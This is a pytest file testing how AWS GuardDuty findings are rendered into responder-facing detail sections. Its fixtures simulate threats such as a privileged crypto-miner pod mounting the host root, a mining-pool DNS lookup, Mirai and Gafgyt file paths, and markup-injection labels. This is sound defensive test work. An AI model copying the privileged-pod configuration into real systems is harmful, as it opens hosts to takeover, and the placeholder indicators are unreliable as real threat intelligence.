"""app.details: what a responder sees about the resource and the actor, for every finding shape."""

from __future__ import annotations

import json
import re
from collections.abc import Mapping
from typing import Any

import botocore.loaders
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.details import (
    MAX_ITEMS,
    MAX_SECTIONS,
    Detail,
    DetailSection,
    actor_sections,
    resource_sections,
    resource_summary,
    safe_label,
)

# --- helpers -------------------------------------------------------------------------------


def section(sections: list[DetailSection], title: str) -> dict[str, str]:
    """The items of the section titled ``title`` as {label: value}."""
    for candidate in sections:
        if candidate.title == title:
            return {item.label: item.value for item in candidate.items}
    raise AssertionError(f"no section {title!r} in {[s.title for s in sections]}")


def titles(sections: list[DetailSection]) -> list[str]:
    return [s.title for s in sections]


def all_values(sections: list[DetailSection]) -> str:
    return "\n".join(item.value for s in sections for item in s.items)


def check_invariants(sections: list[DetailSection]) -> None:
    assert len(sections) <= MAX_SECTIONS
    for sect in sections:
        assert isinstance(sect, DetailSection)
        assert sect.title and sect.items
        assert len(sect.items) <= MAX_ITEMS
        for item in sect.items:
            assert isinstance(item, Detail)
            assert isinstance(item.value, str) and item.value.strip()
            assert item.label and isinstance(item.label, str)
            assert re.fullmatch(r"[A-Za-z0-9 _./()-]{1,40}", item.label), item.label


def finding(resource: Mapping[str, Any] | None = None, **service: Any) -> dict[str, Any]:
    detail: dict[str, Any] = {
        "schemaVersion": "2.0",
        "accountId": "123456789012",
        "region": "eu-west-1",
        "id": "e2c7a8f1b3d94c5e8a6f0b1c2d3e4f50",
        "type": "Recon:EC2/PortProbeUnprotectedPort",
        "severity": 5,
        "service": {"serviceName": "guardduty", "count": 3, **service},
    }
    if resource is not None:
        detail["resource"] = resource
    return detail


EICAR_SHA256 = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"
MIRAI_SHA256 = "0b1f5c2a9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b7a6f5e4d3c2b"
VOLUME_ARN = "arn:aws:ec2:eu-west-1:123456789012:volume/vol-0abc"

REMOTE_IP = {
    "ipAddressV4": "198.51.100.23",
    "organization": {
        "asn": "14061",
        "asnOrg": "DIGITALOCEAN-ASN",
        "isp": "DigitalOcean",
        "org": "DigitalOcean",
    },
    "country": {"countryName": "Netherlands", "countryCode": "NL"},
    "city": {"cityName": "Amsterdam"},
    "geoLocation": {"lat": 52.35, "lon": 4.91},
}

INSTANCE = {
    "resourceType": "Instance",
    "instanceDetails": {
        "instanceId": "i-0a1b2c3d4e5f60718",
        "instanceType": "t3.medium",
        "instanceState": "running",
        "launchTime": "2024-03-01T08:15:00.000Z",
        "imageId": "ami-0c55b159cbfafe1f0",
        "imageDescription": "Amazon Linux 2023 AMI",
        "availabilityZone": "eu-west-1b",
        "platform": None,
        "iamInstanceProfile": {
            "arn": "arn:aws:iam::123456789012:instance-profile/web-server",
            "id": "AIPAJ2EXAMPLEPROFILE",
        },
        "networkInterfaces": [
            {
                "networkInterfaceId": "eni-0f1e2d3c4b5a69788",
                "privateIpAddress": "10.0.1.25",
                "privateIpAddresses": [
                    {"privateIpAddress": "10.0.1.25", "privateDnsName": "ip-10-0-1-25"},
                    {"privateIpAddress": "10.0.1.26", "privateDnsName": "ip-10-0-1-26"},
                ],
                "publicIp": "203.0.113.10",
                "publicDnsName": "ec2-203-0-113-10.eu-west-1.compute.amazonaws.com",
                "subnetId": "subnet-0123abcd",
                "vpcId": "vpc-0456efgh",
                "securityGroups": [{"groupId": "sg-0aa11bb22", "groupName": "web"}],
                "ipv6Addresses": [],
            }
        ],
        "tags": [
            {"key": "Name", "value": "web-1"},
            {"key": "team", "value": "payments"},
        ],
        "productCodes": [],
    },
}


# --- resources -----------------------------------------------------------------------------


def test_instance() -> None:
    detail = finding(INSTANCE)
    sections = resource_sections(detail)
    ec2 = section(sections, "EC2 instance")
    assert ec2["Instance"] == "i-0a1b2c3d4e5f60718"
    assert ec2["Name"] == "web-1"
    assert ec2["Type"] == "t3.medium"
    assert ec2["State"] == "running"
    assert ec2["Public IPs"] == "203.0.113.10"
    assert ec2["Private IPs"] == "10.0.1.25, 10.0.1.26"
    assert ec2["Instance profile"] == "arn:aws:iam::123456789012:instance-profile/web-server"
    assert ec2["Image"] == "ami-0c55b159cbfafe1f0"
    assert ec2["Tags"] == "team=payments"  # the Name tag is shown on its own
    assert ec2["VPC / subnet"] == "vpc-0456efgh / subnet-0123abcd"
    assert ec2["Security groups"] == "sg-0aa11bb22 web"
    assert "Launched" in ec2  # 12 items at most: the rest is cut in priority order
    assert "Platform" not in ec2  # null
    assert len(ec2) == MAX_ITEMS
    assert resource_summary(detail) == "Instance i-0a1b2c3d4e5f60718 (web-1)"
    check_invariants(sections)


def test_instance_launch_time_as_epoch_milliseconds() -> None:
    detail = finding({"resourceType": "Instance", "instanceDetails": {"launchTime": 1709280900000}})
    ec2 = section(resource_sections(detail), "EC2 instance")
    assert ec2["Launched"] == "2024-03-01 08:15:00 UTC"


def test_access_key() -> None:
    detail = finding(
        {
            "resourceType": "AccessKey",
            "accessKeyDetails": {
                "accessKeyId": "ASIAY34FZKBOKMUTVV7A",
                "principalId": "AROAY34FZKBOKMEXAMPLE:alice",
                "userName": "alice",
                "userType": "AssumedRole",
            },
        }
    )
    key = section(resource_sections(detail), "IAM access key")
    assert key == {
        "User": "alice",
        "User type": "AssumedRole",
        "Access key": "ASIAY34FZKBOKMUTVV7A",
        "Principal": "AROAY34FZKBOKMEXAMPLE:alice",
    }
    assert resource_summary(detail) == "AccessKey ASIAY34FZKBOKMUTVV7A (alice)"


S3_BUCKET = {
    "name": "acme-payroll-exports",
    "arn": "arn:aws:s3:::acme-payroll-exports",
    "type": "Destination",
    "createdAt": 1672531200,
    "owner": {"id": "79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be"},
    "tags": [{"key": "data-class", "value": "confidential"}],
    "defaultServerSideEncryption": {
        "encryptionType": "aws:kms",
        "kmsMasterKeyArn": "arn:aws:kms:eu-west-1:123456789012:key/1a2b3c4d",
    },
    "publicAccess": {
        "effectivePermission": "PUBLIC",
        "permissionConfiguration": {
            "bucketLevelPermissions": {
                "accessControlList": {
                    "allowsPublicReadAccess": False,
                    "allowsPublicWriteAccess": False,
                },
                "bucketPolicy": {"allowsPublicReadAccess": True, "allowsPublicWriteAccess": False},
                "blockPublicAccess": {
                    "ignorePublicAcls": False,
                    "restrictPublicBuckets": False,
                    "blockPublicAcls": False,
                    "blockPublicPolicy": False,
                },
            },
            "accountLevelPermissions": {"blockPublicAccess": {"blockPublicPolicy": False}},
        },
    },
}


def test_s3_bucket() -> None:
    detail = finding(
        {
            "resourceType": "S3Bucket",
            "s3BucketDetails": [S3_BUCKET, {"name": "acme-logs", "type": "Source"}],
        }
    )
    bucket = section(resource_sections(detail), "S3 bucket")
    assert bucket["Bucket"] == "acme-payroll-exports"
    assert bucket["Role"] == "Destination"
    assert bucket["Public access"] == "PUBLIC"
    assert bucket["Public read via"] == "bucket policy"
    assert "Public write via" not in bucket
    assert bucket["Encryption"] == "aws:kms"
    assert bucket["Created"] == "2023-01-01 00:00:00 UTC"
    assert bucket["Tags"] == "data-class=confidential"
    assert bucket["Other buckets"] == "acme-logs"
    assert resource_summary(detail) == "S3Bucket acme-payroll-exports (+1 more)"


def test_s3_object_malware_protection() -> None:
    detail = finding(
        {
            "resourceType": "S3Object",
            "s3BucketDetails": [
                {
                    "name": "uploads-prod",
                    "s3ObjectDetails": [
                        {
                            "objectArn": "arn:aws:s3:::uploads-prod/inbox/invoice.pdf.exe",
                            "key": "inbox/invoice.pdf.exe",
                            "eTag": "5d41402abc4b2a76b9719d911017c592",
                            "hash": EICAR_SHA256,
                            "versionId": "3HL4kqtJlcpXroDTDmJ.rmSpXd3dIbrHY",
                        }
                    ],
                }
            ],
        },
        malwareScanDetails={
            "scanId": "4ac7f3d2a1b0c9e8",
            "scanType": "GUARDDUTY_INITIATED",
            "threats": [
                {
                    "name": "EICAR-Test-File (not a virus)",
                    "source": "Bitdefender",
                    "itemPaths": [
                        {
                            "nestedItemPath": "inbox/invoice.pdf.exe",
                            "hash": EICAR_SHA256,
                        }
                    ],
                }
            ],
        },
    )
    sections = resource_sections(detail)
    assert titles(sections)[:3] == ["S3 bucket", "S3 object", "Malware scan"]
    obj = section(sections, "S3 object")
    assert obj["Object key"] == "inbox/invoice.pdf.exe"
    assert obj["Version"] == "3HL4kqtJlcpXroDTDmJ.rmSpXd3dIbrHY"
    assert obj["SHA-256"].startswith("275a021b")
    scan = section(sections, "Malware scan")
    assert scan["Threats"] == "EICAR-Test-File (not a virus)"
    assert scan["File"] == "inbox/invoice.pdf.exe"
    assert scan["Detected by"] == "Bitdefender"
    assert resource_summary(detail) == "S3Object uploads-prod/inbox/invoice.pdf.exe"


KUBERNETES = {
    "kubernetesUserDetails": {
        "username": "system:serviceaccount:default:ci-runner",
        "uid": "c0ffee00-1234-4abc-9def-0123456789ab",
        "groups": ["system:serviceaccounts", "system:authenticated"],
        "impersonatedUser": {"username": "cluster-admin-bot", "groups": ["system:masters"]},
    },
    "kubernetesWorkloadDetails": {
        "name": "crypto-7d9f8b6c5-x2x9k",
        "type": "pods",
        "uid": "5b0c1f7e-aaaa-bbbb-cccc-1234567890ab",
        "namespace": "default",
        "hostNetwork": True,
        "hostPID": True,
        "serviceAccountName": "ci-runner",
        "containers": [
            {
                "name": "miner",
                "image": "docker.io/evil/xmrig:latest",
                "imagePrefix": "docker.io/evil",
                "securityContext": {"privileged": True},
                "volumeMounts": [{"name": "host", "mountPath": "/host"}],
            },
            {"name": "sidecar", "image": "busybox:1.36", "securityContext": {}},
        ],
        "volumes": [{"name": "host", "hostPath": {"path": "/"}}],
    },
}


def test_eks_cluster_and_kubernetes_workload_and_user() -> None:
    detail = finding(
        {
            "resourceType": "EKSCluster",
            "eksClusterDetails": {
                "name": "prod-eks",
                "arn": "arn:aws:eks:eu-west-1:123456789012:cluster/prod-eks",
                "vpcId": "vpc-0456efgh",
                "status": "ACTIVE",
                "createdAt": "2023-06-01T10:00:00Z",
                "tags": [],
            },
            "kubernetesDetails": KUBERNETES,
        }
    )
    sections = resource_sections(detail)
    assert titles(sections)[:2] == ["EKS cluster", "Kubernetes workload"]
    cluster = section(sections, "EKS cluster")
    assert cluster["Cluster"] == "prod-eks"
    assert cluster["Status"] == "ACTIVE"
    workload = section(sections, "Kubernetes workload")
    assert workload["Workload"] == "crypto-7d9f8b6c5-x2x9k"
    assert workload["Kind"] == "pods"
    assert workload["Namespace"] == "default"
    assert workload["Service account"] == "ci-runner"
    assert workload["Images"] == "docker.io/evil/xmrig:latest, busybox:1.36"
    assert workload["Privileged"] == "miner"
    assert workload["Host namespaces"] == "network, PID"
    assert workload["Host paths"] == "/"
    assert workload["Volume mounts"] == "/host"
    user = section(actor_sections(detail), "Kubernetes user")
    assert user["Username"] == "system:serviceaccount:default:ci-runner"
    assert user["Groups"] == "system:serviceaccounts, system:authenticated"
    assert user["Impersonated user"] == "cluster-admin-bot"
    assert user["Impersonated groups"] == "system:masters"
    assert resource_summary(detail) == "EKSCluster prod-eks (default/crypto-7d9f8b6c5-x2x9k)"


def test_ecs_cluster_and_task() -> None:
    detail = finding(
        {
            "resourceType": "ECSCluster",
            "ecsClusterDetails": {
                "name": "orders",
                "arn": "arn:aws:ecs:eu-west-1:123456789012:cluster/orders",
                "status": "ACTIVE",
                "activeServicesCount": 4,
                "registeredContainerInstancesCount": 0,
                "runningTasksCount": 9,
                "taskDetails": {
                    "arn": "arn:aws:ecs:eu-west-1:123456789012:task/orders/0f9e8d7c6b5a4",
                    "definitionArn": "arn:aws:ecs:eu-west-1:123456789012:task-definition/api:42",
                    "version": "42",
                    "startedAt": 1717243200,
                    "startedBy": "ecs-svc/1234567890",
                    "launchType": "FARGATE",
                    "group": "service:api",
                    "containers": [{"name": "api", "image": "1234.dkr.ecr/api:2.3.1"}],
                },
            },
        }
    )
    sections = resource_sections(detail)
    cluster = section(sections, "ECS cluster")
    assert cluster["Cluster"] == "orders"
    assert cluster["Running tasks"] == "9"
    assert cluster["Active services"] == "4"
    assert cluster["Container instances"] == "0"
    task = section(sections, "ECS task")
    assert task["Task"].endswith("task/orders/0f9e8d7c6b5a4")
    assert task["Task definition"].endswith("task-definition/api:42")
    assert task["Launch type"] == "FARGATE"
    assert task["Started"] == "2024-06-01 12:00:00 UTC"
    assert task["Images"] == "1234.dkr.ecr/api:2.3.1"
    assert resource_summary(detail) == "ECSCluster orders"


def test_container() -> None:
    detail = finding(
        {
            "resourceType": "Container",
            "containerDetails": {
                "containerRuntime": "containerd",
                "id": "3f4e5d6c7b8a91",
                "name": "nginx",
                "image": "nginx:1.25",
                "securityContext": {"privileged": True, "allowPrivilegeEscalation": False},
                "volumeMounts": [{"name": "sock", "mountPath": "/var/run/docker.sock"}],
            },
        }
    )
    container = section(resource_sections(detail), "Container")
    assert container["Container"] == "nginx"
    assert container["Image"] == "nginx:1.25"
    assert container["Runtime"] == "containerd"
    assert container["Privileged"] == "yes"
    assert "Privilege escalation" not in container
    assert container["Volume mounts"] == "/var/run/docker.sock"
    assert resource_summary(detail) == "Container nginx (nginx:1.25)"


def test_rds_instance_and_user() -> None:
    detail = finding(
        {
            "resourceType": "RDSDBInstance",
            "rdsDbInstanceDetails": {
                "dbInstanceIdentifier": "orders-db-1",
                "engine": "aurora-postgresql",
                "engineVersion": "15.4",
                "dbClusterIdentifier": "orders-cluster",
                "dbInstanceArn": "arn:aws:rds:eu-west-1:123456789012:db:orders-db-1",
                "dbiResourceId": "db-ABCDEFGHIJKLMNOP",
            },
            "rdsDbUserDetails": {
                "user": "postgres",
                "application": "psql",
                "database": "orders",
                "ssl": "false",
                "authMethod": "PASSWORD",
            },
        }
    )
    sections = resource_sections(detail)
    assert titles(sections)[:2] == ["RDS DB instance", "Database user"]
    db = section(sections, "RDS DB instance")
    assert db["DB instance"] == "orders-db-1"
    assert db["Cluster"] == "orders-cluster"
    assert db["Engine"] == "aurora-postgresql 15.4"
    user = section(sections, "Database user")
    assert user == {
        "User": "postgres",
        "Database": "orders",
        "Application": "psql",
        "SSL": "false",
        "Authentication": "PASSWORD",
    }
    assert resource_summary(detail) == "RDSDBInstance orders-db-1 (postgres)"


def test_rds_limitless() -> None:
    detail = finding(
        {
            "resourceType": "RDSLimitlessDB",
            "rdsLimitlessDbDetails": {
                "dbShardGroupIdentifier": "ledger-shards",
                "dbShardGroupResourceId": "shardgrp-0123456789abcdef",
                "dbShardGroupArn": "arn:aws:rds:eu-west-1:123456789012:shard-group:ledger",
                "engine": "aurora-postgresql",
                "engineVersion": "16.4-limitless",
                "dbClusterIdentifier": "ledger",
            },
        }
    )
    db = section(resource_sections(detail), "RDS Limitless database")
    assert db["Shard group"] == "ledger-shards"
    assert db["Engine"] == "aurora-postgresql 16.4-limitless"
    assert resource_summary(detail) == "RDSLimitlessDB ledger-shards"


def test_lambda() -> None:
    detail = finding(
        {
            "resourceType": "Lambda",
            "lambdaDetails": {
                "functionName": "thumbnailer",
                "functionArn": "arn:aws:lambda:eu-west-1:123456789012:function:thumbnailer",
                "description": "Resizes *uploaded* images",
                "lastModifiedAt": "2024-02-02T02:02:02Z",
                "revisionId": "a1b2c3d4-0000-1111-2222-333344445555",
                "functionVersion": "$LATEST",
                "role": "arn:aws:iam::123456789012:role/thumbnailer",
                "vpcConfig": {
                    "subnetIds": ["subnet-1", "subnet-2"],
                    "vpcId": "vpc-0456efgh",
                    "securityGroups": [{"groupId": "sg-1", "groupName": "lambda"}],
                },
                "tags": [{"key": "owner", "value": "media"}],
            },
        }
    )
    sections = resource_sections(detail)
    fn = section(sections, "Lambda function")
    assert fn["Function"] == "thumbnailer"
    assert fn["Version"] == "$LATEST"
    assert fn["Role"] == "arn:aws:iam::123456789012:role/thumbnailer"
    assert fn["Subnets"] == "subnet-1, subnet-2"
    assert fn["Last modified"] == "2024-02-02 02:02:02 UTC"
    description = next(i for i in sections[0].items if i.label == "Description")
    assert description.prose and description.value == "Resizes *uploaded* images"
    assert resource_summary(detail) == "Lambda thumbnailer"


def test_ebs_volume_malware_scan() -> None:
    detail = finding(
        {
            **INSTANCE,
            "ebsVolumeDetails": {
                "scannedVolumeDetails": [
                    {
                        "volumeArn": "arn:aws:ec2:eu-west-1:123456789012:volume/vol-0abc",
                        "volumeType": "gp3",
                        "deviceName": "/dev/xvda",
                        "volumeSizeInGB": 8,
                        "encryptionType": "UNENCRYPTED",
                    }
                ],
                "skippedVolumeDetails": [],
            },
        },
        ebsVolumeScanDetails={
            "scanId": "7c8f0b3a9e2d1f4c",
            "scanStartedAt": 1717243200000,
            "scanCompletedAt": 1717243500000,
            "triggerFindingId": "b0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5",
            "sources": ["Bitdefender", "Amazon"],
            "scanType": "GUARDDUTY_INITIATED",
            "scanDetections": {
                "scannedItemCount": {"totalGb": 8, "files": 48211, "volumes": 1},
                "threatsDetectedItemCount": {"files": 2},
                "highestSeverityThreatDetails": {
                    "severity": "HIGH",
                    "threatName": "Trojan.Linux.Mirai",
                    "count": 1,
                },
                "threatDetectedByName": {
                    "itemCount": 2,
                    "uniqueThreatNameCount": 2,
                    "shortened": False,
                    "threatNames": [
                        {
                            "name": "Trojan.Linux.Mirai",
                            "severity": "HIGH",
                            "itemCount": 1,
                            "filePaths": [
                                {
                                    "filePath": "/tmp/.x/mirai.arm7",
                                    "volumeArn": VOLUME_ARN,
                                    "hash": MIRAI_SHA256,
                                    "fileName": "mirai.arm7",
                                }
                            ],
                        },
                        {
                            "name": "EICAR-Test-File",
                            "severity": "LOW",
                            "itemCount": 1,
                            "filePaths": [{"filePath": "/home/ec2-user/eicar.com"}],
                        },
                    ],
                },
            },
        },
    )
    sections = resource_sections(detail)
    assert titles(sections)[:2] == ["EC2 instance", "Malware scan (EBS volumes)"]
    scan = section(sections, "Malware scan (EBS volumes)")
    assert scan["Threats"] == "Trojan.Linux.Mirai, EICAR-Test-File"
    assert scan["Highest severity"] == "Trojan.Linux.Mirai, HIGH"
    assert scan["Infected files"] == "2"
    assert scan["File"] == "/tmp/.x/mirai.arm7"
    assert scan["SHA-256"].startswith("0b1f5c2a")
    assert scan["Other files"] == "/home/ec2-user/eicar.com"
    assert scan["Scanned"] == "48211 files, 8 GB, 1 volumes"
    volumes = section(sections, "EBS volumes")
    assert "/dev/xvda" in volumes["Scanned"] and "8 GB" in volumes["Scanned"]


def test_backup_recovery_point_snapshot_and_image() -> None:
    detail = finding(
        {
            "resourceType": "RecoveryPoint",
            "recoveryPointDetails": {
                "recoveryPointArn": "arn:aws:backup:eu-west-1:123456789012:recovery-point:1a2b",
                "backupVaultName": "nightly",
            },
            "ebsSnapshotDetails": {
                "snapshotArn": "arn:aws:ec2:eu-west-1::snapshot/snap-0123456789abcdef0"
            },
            "ec2ImageDetails": {"imageArn": "arn:aws:ec2:eu-west-1::image/ami-0123456789abcdef0"},
        },
        malwareScanDetails={
            "scanType": "BACKUP_INITIATED",
            "scanCategory": "INCREMENTAL_SCAN",
            "uniqueThreatCount": 1,
            "scanConfiguration": {
                "triggerType": "BACKUP",
                "incrementalScanDetails": {
                    "baselineResourceArn": "arn:aws:backup:eu-west-1:123456789012:recovery-point:0f"
                },
            },
            "threats": [
                {
                    "name": "Backdoor.Linux.Gafgyt",
                    "count": 1,
                    "itemDetails": [
                        {
                            "resourceArn": "arn:aws:ec2:eu-west-1::snapshot/snap-0123456789abcdef0",
                            "itemPath": "/usr/bin/.sshd",
                            "hash": "deadbeef" * 8,
                            "additionalInfo": {"deviceName": "/dev/sda1"},
                        }
                    ],
                }
            ],
        },
    )
    sections = resource_sections(detail)
    assert titles(sections)[:2] == ["Backup recovery point", "Malware scan"]
    assert section(sections, "Backup recovery point")["Backup vault"] == "nightly"
    scan = section(sections, "Malware scan")
    assert scan["File"] == "/usr/bin/.sshd"
    assert scan["Device"] == "/dev/sda1"
    assert scan["Scan type"] == "BACKUP_INITIATED, INCREMENTAL_SCAN"
    assert scan["Trigger"] == "BACKUP"
    assert section(sections, "EBS snapshot")["Snapshot"].endswith("snap-0123456789abcdef0")
    assert section(sections, "EC2 image (AMI)")["Image"].endswith("ami-0123456789abcdef0")
    assert resource_summary(detail).startswith("RecoveryPoint arn:aws:backup:")


def test_bedrock_guardrail_and_models() -> None:
    detail = finding(
        {
            "resourceType": "BedrockGuardrail",
            "bedrockGuardrailDetails": {
                "guardrailArn": "arn:aws:bedrock:eu-west-1:123456789012:guardrail/gr-1",
                "guardrailVersion": "3",
                "guardrailAction": "GUARDRAIL_INTERVENED",
                "guardrailSource": "INPUT",
                "contentPolicyFilters": [
                    {"type": "PROMPT_ATTACK", "confidence": "HIGH", "action": "BLOCKED"}
                ],
            },
            "modelDetails": [{"modelId": "anthropic.claude-3-haiku-20240307-v1:0"}],
        }
    )
    sections = resource_sections(detail)
    guardrail = section(sections, "Bedrock guardrail")
    assert guardrail["Action"] == "GUARDRAIL_INTERVENED"
    assert guardrail["Content filters"] == "PROMPT_ATTACK (HIGH, BLOCKED)"
    assert section(sections, "Bedrock models")["Models"] == "anthropic.claude-3-haiku-20240307-v1:0"


SEQUENCE = {
    "uid": "seq-9f8e7d6c",
    "description": "A sequence of actions indicating **credential compromise** and data theft.",
    "actors": [
        {
            "id": "actor-1",
            "user": {
                "name": "alice",
                "uid": "AIDAEXAMPLE",
                "type": "IAMUser",
                "credentialUid": "AKIAEXAMPLE",
                "account": {"uid": "123456789012", "account": "prod"},
            },
            "session": {"uid": "s-1", "mfaStatus": "DISABLED", "issuer": "arn:aws:iam::1:role/x"},
        }
    ],
    "resources": [
        {"uid": "arn:aws:s3:::acme-payroll-exports", "name": "acme-payroll-exports"},
        {"uid": "arn:aws:s3:::acme-logs", "name": "acme-logs"},
    ],
    "endpoints": [
        {
            "id": "ep-1",
            "ip": "192.0.2.77",
            "location": {"city": "Sofia", "country": "Bulgaria"},
            "autonomousSystem": {"name": "EXAMPLE-AS", "number": 64500},
            "connection": {"direction": "INBOUND"},
        }
    ],
    "signals": [
        {"uid": "sig-1", "type": "FINDING", "name": "Discovery:S3/AnomalousBehavior"},
        {"uid": "sig-2", "type": "CLOUD_TRAIL", "name": "GetObject"},
        {"uid": "sig-3", "type": "CLOUD_TRAIL", "name": "DeleteObject"},
    ],
    "sequenceIndicators": [
        {"key": "ATTACK_TACTIC", "values": ["Discovery", "Exfiltration", "Impact"]},
        {"key": "ATTACK_TECHNIQUE", "values": ["Data Destruction"]},
        {"key": "HIGH_RISK_API", "values": ["s3:DeleteObject"]},
        {"key": "SOME_FUTURE_KEY", "values": ["x"]},
    ],
    "additionalSequenceTypes": [],
}


def test_attack_sequence() -> None:
    detail = finding(
        {"resourceType": "S3Bucket", "s3BucketDetails": [{"name": "acme-payroll-exports"}]},
        detection={"sequence": SEQUENCE},
    )
    sections = resource_sections(detail)
    assert titles(sections)[:2] == ["S3 bucket", "Attack sequence"]
    seq = section(sections, "Attack sequence")
    assert seq["MITRE tactics"] == "Discovery, Exfiltration, Impact"
    assert seq["MITRE techniques"] == "Data Destruction"
    assert seq["High-risk APIs"] == "s3:DeleteObject"
    assert seq["Some Future Key"] == "x"
    assert seq["Signals"] == "3"
    assert seq["Signal types"] == "FINDING, CLOUD_TRAIL"
    assert seq["Resources"] == "2"
    assert seq["Resource names"] == "acme-payroll-exports, acme-logs"
    description = next(i for i in sections[1].items if i.label == "Description")
    assert description.prose
    actors = section(actor_sections(detail), "Attack sequence actors")
    assert actors["Actors"] == "alice (IAMUser, 123456789012)"
    assert actors["Endpoints"] == "192.0.2.77 (AS64500 EXAMPLE-AS, Sofia, Bulgaria, inbound)"
    assert actors["MFA"] == "DISABLED"


def test_unknown_resource_type_is_generic() -> None:
    detail = finding(
        {
            "resourceType": "QuantumComputer",
            "quantumComputerDetails": {
                "qpuId": "qpu-42",
                "location": {"siteName": "Lab <b>7</b> & co"},
                "qubits": [1, 2, 3],
                "<!channel> injected": "x",
            },
        }
    )
    sections = resource_sections(detail)
    generic = section(sections, "Resource details")
    assert generic["Quantum Computer Details Qpu Id"] == "qpu-42"
    assert generic["Location Site Name"] == "Lab <b>7</b> & co"  # raw: the renderer escapes
    assert generic["Quantum Computer Details Qubits"] == "1, 2, 3"
    assert generic["Quantum Computer Details Channel"] == "x"
    check_invariants(sections)
    assert resource_summary(detail) == "QuantumComputer"


def test_unknown_type_with_nothing_known_still_says_the_type() -> None:
    detail = finding({"resourceType": "Widget"})
    assert section(resource_sections(detail), "Resource") == {"Resource type": "Widget"}


def test_safe_label() -> None:
    assert safe_label("someKey") == "Some Key"
    assert safe_label("<@U123> *bold* `code`") == "U123 Bold Code"
    assert safe_label("") == "Field"
    assert safe_label("<>&") == "Field"
    assert len(safe_label("x" * 500)) == 40
    assert (
        safe_label("aVeryLongKeyThatGoesOnAndOnForeverAndEver")
        == "A Very Long Key That Goes On And On"
    )


def test_generic_fallback_is_bounded() -> None:
    unknown = {f"field{i}": f"value-{i}" for i in range(300)}
    detail = finding({"resourceType": "Thing", "thingDetails": unknown})
    generic = section(resource_sections(detail), "Resource details")
    assert len(generic) == MAX_ITEMS
    assert generic["More fields"] == f"+{300 - (MAX_ITEMS - 1)} more"


# --- actions -------------------------------------------------------------------------------


def action_finding(action: Mapping[str, Any], **service: Any) -> dict[str, Any]:
    return finding(INSTANCE, action=action, **service)


def test_network_connection() -> None:
    detail = action_finding(
        {
            "actionType": "NETWORK_CONNECTION",
            "networkConnectionAction": {
                "connectionDirection": "OUTBOUND",
                "protocol": "TCP",
                "blocked": False,
                "remoteIpDetails": REMOTE_IP,
                "remotePortDetails": {"port": 3333, "portName": "Unknown"},
                "localPortDetails": {"port": 49152, "portName": "Unknown"},
                "localIpDetails": {"ipAddressV4": "10.0.1.25"},
                "localNetworkInterface": "eni-0f1e2d3c4b5a69788",
            },
        }
    )
    sections = actor_sections(detail)
    assert titles(sections)[0] == "Network connection (outbound)"
    conn = section(sections, "Network connection (outbound)")
    assert conn["Remote IP"] == "198.51.100.23"
    assert conn["Organisation"] == "DigitalOcean / DIGITALOCEAN-ASN"
    assert conn["ASN"] == "14061"
    assert conn["Location"] == "Amsterdam, Netherlands"
    assert conn["Remote port"] == "3333"
    assert conn["Local port"] == "49152"
    assert conn["Protocol"] == "TCP"
    assert conn["Blocked"] == "no"
    assert conn["Local IP"] == "10.0.1.25"
    assert "Direction" not in conn


def test_network_connection_inbound_with_port_name_and_unknown_asn() -> None:
    remote = {**REMOTE_IP, "organization": {"asn": -1, "org": "Example Org"}}
    detail = action_finding(
        {
            "actionType": "NETWORK_CONNECTION",
            "networkConnectionAction": {
                "connectionDirection": "INBOUND",
                "remoteIpDetails": remote,
                "localPortDetails": {"port": 22, "portName": "SSH"},
            },
        }
    )
    conn = section(actor_sections(detail), "Network connection (inbound)")
    assert conn["Local port"] == "22 (SSH)"
    assert "ASN" not in conn
    assert conn["Organisation"] == "Example Org"


def test_port_probe_with_hundreds_of_probes_is_bounded() -> None:
    probes = [
        {
            "localPortDetails": {"port": 1000 + i % 50, "portName": "Unknown"},
            "localIpDetails": {"ipAddressV4": "10.0.1.25"},
            "remoteIpDetails": {**REMOTE_IP, "ipAddressV4": f"198.51.{i // 250}.{i % 250}"},
        }
        for i in range(400)
    ]
    detail = action_finding(
        {
            "actionType": "PORT_PROBE",
            "portProbeAction": {"blocked": False, "portProbeDetails": probes},
        }
    )
    sections = actor_sections(detail)
    probe = section(sections, "Port probe")
    assert probe["Remote IP"] == "198.51.0.0"
    assert probe["Local port"] == "1000"
    assert probe["Probes"] == "400"
    assert (
        probe["Remote IPs"]
        == "198.51.0.0, 198.51.0.1, 198.51.0.2, 198.51.0.3, 198.51.0.4 (+395 more)"
    )
    assert probe["Local ports"] == "1000, 1001, 1002, 1003, 1004 (+45 more)"
    assert probe["Blocked"] == "no"
    check_invariants(sections)


def test_port_probe_single() -> None:
    detail = action_finding(
        {
            "actionType": "PORT_PROBE",
            "portProbeAction": {
                "blocked": True,
                "portProbeDetails": {  # an object where a list is usual
                    "localPortDetails": {"port": 3389, "portName": "RDP"},
                    "remoteIpDetails": REMOTE_IP,
                },
            },
        }
    )
    probe = section(actor_sections(detail), "Port probe")
    assert probe["Local port"] == "3389 (RDP)"
    assert probe["Blocked"] == "yes"
    assert "Probes" not in probe and "Remote IPs" not in probe


def test_dns_request() -> None:
    detail = action_finding(
        {
            "actionType": "DNS_REQUEST",
            "dnsRequestAction": {
                "domain": "pool.minexmr.com",
                "domainWithSuffix": "minexmr.com",
                "protocol": "UDP",
                "blocked": True,
                "vpcOwnerAccountId": "210987654321",
            },
        }
    )
    dns = section(actor_sections(detail), "DNS request")
    assert dns == {
        "Domain": "pool.minexmr.com",
        "Domain with suffix": "minexmr.com",
        "Protocol": "UDP",
        "Blocked": "yes",
        "VPC owner account": "210987654321",
    }


def test_aws_api_call() -> None:
    detail = finding(
        {"resourceType": "AccessKey", "accessKeyDetails": {"userName": "alice"}},
        action={
            "actionType": "AWS_API_CALL",
            "awsApiCallAction": {
                "api": "GetSecretValue",
                "serviceName": "secretsmanager.amazonaws.com",
                "callerType": "Remote IP",
                "errorCode": "AccessDenied",
                "userAgent": "aws-cli/2.15.0 Python/3.11 Linux/6.1 md/arch#x86_64",
                "remoteIpDetails": REMOTE_IP,
                "affectedResources": {
                    "AWS::SecretsManager::Secret": "arn:aws:secretsmanager:eu-west-1:1:secret:db"
                },
            },
        },
    )
    call = section(actor_sections(detail), "AWS API call")
    assert call["API"] == "GetSecretValue"
    assert call["Service"] == "secretsmanager.amazonaws.com"
    assert call["Caller type"] == "Remote IP"
    assert call["Error code"] == "AccessDenied"
